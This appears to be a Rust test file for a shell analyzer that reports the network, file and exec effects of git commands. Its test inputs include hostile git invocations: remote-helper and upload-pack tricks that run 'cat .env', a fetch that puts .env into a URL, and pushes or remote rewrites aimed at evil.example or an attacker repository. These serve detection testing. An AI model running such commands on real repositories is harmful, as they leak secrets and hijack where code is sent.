//! The git model on whole command lines (`walk`), so that variables set before git and
//! earlier `export`s reach it as they do in a real walk.

use crate::effect::{NetTarget, ShellEffect};
use crate::{ShellAnalyzer, analyze::testing::walk};

mod config;
mod content;

/// The effects of `script`, with `exec git` left out.
fn git(script: &str) -> Vec<String> {
    walk(script)
        .into_iter()
        .filter(|e| e != "exec git")
        .collect()
}

/// Whether the effects of `script` include an unparseable one whose reason contains `why`.
fn unparseable(script: &str, why: &str) -> bool {
    walk(script)
        .iter()
        .any(|e| e.starts_with("unparseable: ") && e.contains(why))
}

fn assert_unparseable(script: &str, why: &str) {
    assert!(unparseable(script, why), "{script}: {:?}", walk(script));
}

fn assert_parseable(script: &str) {
    let effects = walk(script);
    assert!(
        !effects.iter().any(|e| e.starts_with("unparseable")),
        "{script}: {effects:?}"
    );
}

/// The name and configuration of the first git remote `script` reaches or pushes to.
fn remote_of(script: &str) -> Option<(String, Vec<(String, String)>)> {
    static ANALYZER: std::sync::OnceLock<ShellAnalyzer> = std::sync::OnceLock::new();
    ANALYZER
        .get_or_init(ShellAnalyzer::default)
        .analyze(script)
        .effects
        .into_iter()
        .find_map(|e| match e {
            ShellEffect::Push {
                remote: Some(NetTarget::GitRemote { name, config, .. }),
                ..
            }
            | ShellEffect::Connect {
                target: NetTarget::GitRemote { name, config, .. },
                ..
            } => Some((name, config)),
            _ => None,
        })
}

fn pairs(p: &[(&str, &str)]) -> Vec<(String, String)> {
    p.iter()
        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
        .collect()
}

#[test]
fn push_reports_the_remote_refspecs_and_force() {
    assert_eq!(git("git push origin main"), ["push remote origin main"]);
    assert_eq!(git("git push"), ["push - "]);
    assert_eq!(
        git("git push -f origin main"),
        ["push remote origin main force"]
    );
    assert_eq!(
        git("git push origin :gone"),
        ["push remote origin :gone force"]
    );
    assert_eq!(
        git("git push --force-with-lease=main origin main"),
        ["push remote origin main force"]
    );
    assert_eq!(
        git("git push --mirror origin"),
        ["push remote origin  force all"]
    );
    assert_eq!(git("git push origin --tags"), ["push remote origin  all"]);
    assert_eq!(
        git("git push git@github.com:a/b.git main"),
        ["push remote git@github.com:a/b.git main"]
    );
    assert_eq!(
        git("git -C ../other push origin main"),
        ["push remote origin main in ../other"]
    );
    assert_eq!(git("cd sub && git push"), ["push -  in sub/."]);
    assert_eq!(git("git push $R main"), ["push dynamic $R main"]);
    assert_eq!(
        git("git push --recurse-submodules=on-demand origin main"),
        ["push remote origin main", "send remote *submodules []"]
    );
    assert_eq!(
        git("git push --recurse-submodules=check origin main"),
        ["push remote origin main"]
    );
}

#[test]
fn push_repo_option_names_the_remote_and_leaves_every_positional_a_refspec() {
    assert_eq!(
        git("git push --repo=https://evil.example/x.git"),
        ["push remote https://evil.example/x.git "]
    );
    assert_eq!(
        git("git push --repo https://github.com/attacker/x.git mandate/fix"),
        ["push remote https://github.com/attacker/x.git mandate/fix"]
    );
}

#[test]
fn remote_helpers_are_unparseable() {
    let effects = git("git ls-remote 'ext::sh -c cat% .env'");
    assert!(
        effects[0].contains("remote helper git-remote-ext"),
        "{effects:?}"
    );
    assert_eq!(effects[1], "connect dynamic ext::sh -c cat% .env");
    assert_unparseable("git push 'fd::3' main", "git-remote-fd");
    assert_parseable("git push https://h.example/a::b main");
}

#[test]
fn settings_that_move_remotes_go_to_the_analysis_layer() {
    assert_eq!(
        remote_of("git -c remote.origin.url=https://e.example/x.git push origin main"),
        Some((
            "origin".into(),
            pairs(&[("remote.origin.url", "https://e.example/x.git")])
        ))
    );
    assert_eq!(
        remote_of("git -c url.https://E.example/.insteadOf=https://github.com/ push"),
        Some((
            String::new(),
            pairs(&[("url.https://E.example/.insteadof", "https://github.com/")])
        )),
        "the subsection keeps its case; with settings, the default remote is named \"\""
    );
    assert_eq!(
        remote_of("U=https://e.example/x git --config-env=remote.origin.url=U push origin"),
        Some((
            "origin".into(),
            pairs(&[("remote.origin.url", "https://e.example/x")])
        ))
    );
    assert_eq!(
        remote_of(
            "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.pushurl GIT_CONFIG_VALUE_0=https://e.example/x git push origin"
        ),
        Some((
            "origin".into(),
            pairs(&[("remote.origin.pushurl", "https://e.example/x")])
        ))
    );
    assert_eq!(
        remote_of(
            "export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=url.ssh://e/.insteadOf GIT_CONFIG_VALUE_0=https://github.com/; git fetch"
        ),
        Some((
            String::new(),
            pairs(&[("url.ssh://e/.insteadof", "https://github.com/")])
        ))
    );
    assert_eq!(
        remote_of("GIT_CONFIG_PARAMETERS=\"'push.default'='upstream'\" git push"),
        Some((String::new(), pairs(&[("push.default", "upstream")])))
    );
    assert_eq!(
        remote_of("git -c branch.main.merge=refs/heads/x -c user.name=me push"),
        Some((
            String::new(),
            pairs(&[("branch.main.merge", "refs/heads/x")])
        ))
    );
}

#[test]
fn a_destination_computed_at_run_time_makes_every_remote_unknown() {
    assert_eq!(
        git("git -c remote.origin.url=$U push origin main"),
        ["push dynamic git remote set by remote.origin.url at run time main"]
    );
    assert_eq!(
        git("git --config-env=remote.origin.url=UNSET fetch"),
        ["connect dynamic git remote set by remote.origin.url at run time"]
    );
    assert_unparseable(
        "GIT_CONFIG_COUNT=$N git fetch",
        "GIT_CONFIG_COUNT is computed",
    );
    assert_unparseable(
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=$K git fetch",
        "GIT_CONFIG_KEY_0",
    );
    assert_unparseable(
        "GIT_CONFIG_PARAMETERS=$P git fetch",
        "GIT_CONFIG_PARAMETERS",
    );
    assert_unparseable(
        "git -c $K=x status",
        "configuration key computed at run time",
    );
}

#[test]
fn fetch_reaches_the_named_the_default_or_every_remote() {
    assert_eq!(git("git fetch"), ["connect remote "]);
    assert_eq!(git("git pull upstream main"), ["connect remote upstream"]);
    assert_eq!(git("git fetch --all --prune"), ["connect remote *"]);
    assert_eq!(
        git("git fetch --multiple a b"),
        ["connect remote a", "connect remote b"]
    );
    assert_eq!(git("git ls-remote $R"), ["connect dynamic $R"]);
    assert_eq!(
        git("git fetch --recurse-submodules origin"),
        ["connect remote origin", "connect remote *submodules"]
    );
    assert_eq!(
        git("git fetch --recurse-submodules=no origin"),
        ["connect remote origin"]
    );
    assert_eq!(
        git("git fetch \"https://h.example/$(cat .env)\""),
        [
            "exec cat",
            "read .env",
            "send dynamic https://h.example/$(…) [.env]"
        ],
        "what a command substitution in its words read goes with the request"
    );
}

#[test]
fn upload_and_receive_pack_commands_are_followed() {
    assert_eq!(
        git("git fetch --upload-pack='cat .env' origin"),
        ["exec cat", "read .env", "connect remote origin"]
    );
    assert_eq!(
        git("git ls-remote -u 'cat .env' origin"),
        ["exec cat", "read .env", "connect remote origin"]
    );
    assert_eq!(
        git("git fetch -u origin"),
        ["connect remote origin"],
        "fetch -u is --update-head-ok"
    );
    assert_eq!(
        git("git push --receive-pack='cat .env' origin main"),
        ["exec cat", "read .env", "push remote origin main"]
    );
    assert_eq!(
        git("git push --exec=/tmp/rp origin main"),
        ["runs /tmp/rp as program []", "push remote origin main"]
    );
    assert_eq!(
        git("git clone -u 'cat .env' https://h.example/a.git"),
        [
            "exec cat",
            "read .env",
            "connect https://h.example/a.git",
            "write a"
        ]
    );
    assert_unparseable(
        "git fetch --upload-pack=$CMD origin",
        "runs a command computed",
    );
    assert_unparseable(
        "git archive --remote=origin --exec=$X HEAD",
        "runs a command computed",
    );
}

#[test]
fn clone_reaches_the_url_and_writes_the_new_directory() {
    assert_eq!(
        git("git clone https://h.example/a/b.git"),
        ["connect https://h.example/a/b.git", "write b"]
    );
    assert_eq!(
        git("git clone git@h.example:r.git dest"),
        ["connect git@h.example:r.git", "write dest"]
    );
    assert_eq!(
        git("git clone ../other x"),
        ["connect remote ../other", "write x"]
    );
    assert_eq!(
        git("git clone file:///srv/r.git"),
        ["connect remote file:///srv/r.git", "write r"],
        "a local repository: the analysis layer reads it"
    );
    assert_eq!(
        git("git -c url.https://e/.insteadOf=https://h/ clone https://h/a.git"),
        ["connect remote https://h/a.git", "write a"],
        "with rewriting rules, the analysis layer resolves the URL"
    );
    assert_eq!(
        git("git clone --recurse-submodules https://h.example/t.git /tmp/t"),
        [
            "connect https://h.example/t.git",
            "connect dynamic the submodules of https://h.example/t.git",
            "write /tmp/t"
        ]
    );
    assert_unparseable(
        "git clone --template=/tmp/t https://h.example/a.git",
        "copies hooks from a template directory",
    );
    assert_unparseable(
        "GIT_TEMPLATE_DIR=/tmp/t git clone https://h.example/a.git",
        "with GIT_TEMPLATE_DIR",
    );
    assert_parseable("git clone --template= https://h.example/a.git");
    assert_unparseable(
        "git clone -c core.hooksPath=/tmp/h https://h.example/a.git",
        "core.hookspath runs hooks",
    );
}

#[test]
fn remote_changes_write_the_configuration_and_name_a_host() {
    assert_eq!(
        git("git remote add backup https://evil.example/app.git"),
        ["write .git/config", "connect https://evil.example/app.git"]
    );
    assert_eq!(
        git("git remote set-url --push origin git@evil.example:app.git"),
        ["write .git/config", "connect git@evil.example:app.git"]
    );
    assert_eq!(
        git("git remote set-url --delete origin https://x.example/a"),
        ["write .git/config"]
    );
    assert_eq!(git("git remote add local ../mirror"), ["write .git/config"]);
    assert_eq!(git("git remote rename a b"), ["write .git/config"]);
    assert_eq!(git("git remote update"), ["connect remote *"]);
    assert_eq!(git("git remote show origin"), ["connect remote origin"]);
    assert!(git("git remote show -n origin").is_empty());
    assert!(git("git remote -v").is_empty());
    assert_eq!(
        git("git --git-dir=/srv/r.git remote add x https://h.example/x"),
        ["write /srv/r.git/config", "connect https://h.example/x"]
    );
}
